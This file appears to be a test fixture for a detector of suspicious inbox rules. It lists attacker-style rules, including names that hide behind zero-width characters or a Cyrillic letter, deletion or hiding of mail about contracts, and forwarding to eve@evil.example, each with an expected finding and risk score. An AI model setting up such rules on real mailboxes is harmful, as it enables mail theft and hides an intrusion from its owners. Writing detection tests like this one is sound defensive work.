# Names that are not there; where another finding counts the name already, it has none of its own.
domain fabrikam.com
domain fabrikam.onmicrosoft.com
person amy "Amy Adams"
person bob "Bob Brown"
person cyd "Cyd Clark"
person dan "Dan Dark"

mon 09:00 amy makes rule "\u200b\u200b" when subject_contains "contract" delete
mon 09:00 bob makes rule ".." when subject_contains "contract" move to rssfeeds
mon 09:00 dan makes rule "\u0410rchive" when subject_contains "contract" delete
mon 09:00 cyd makes rule "\u0410rchive" when subject_contains "contract" forward to eve@evil.example
expect obfuscated-name amy risk 45 says "\"\\u200b\\u200b\""
expect hidden-folder bob risk 75
expect forward-outside cyd risk 80
expect obfuscated-name dan risk 45 says "looks like \"archive\""
